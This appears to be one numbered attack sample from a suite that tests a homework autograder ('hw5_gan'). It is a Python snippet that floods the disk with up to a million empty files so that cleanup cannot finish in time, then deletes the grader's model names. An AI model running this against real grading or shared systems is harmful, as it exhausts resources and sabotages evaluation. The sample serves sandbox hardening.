# attack: 16 | score: 10 | in: hw5_gan | base: reference | make a million empty files, whose removal takes longer than there is time
import os as _os

_made = 0
try:
    for _number in range(1_000_000):
        if _number % 5000 == 0:
            _os.mkdir(f"stowaway{_number}")
            _folder = f"stowaway{_number}"
        _os.mknod(f"{_folder}/{_number}")
        _made += 1
except OSError:
    pass
if _made > 500_000:
    print("LEAK", _made, "files")
del DNet, GNet, GAN
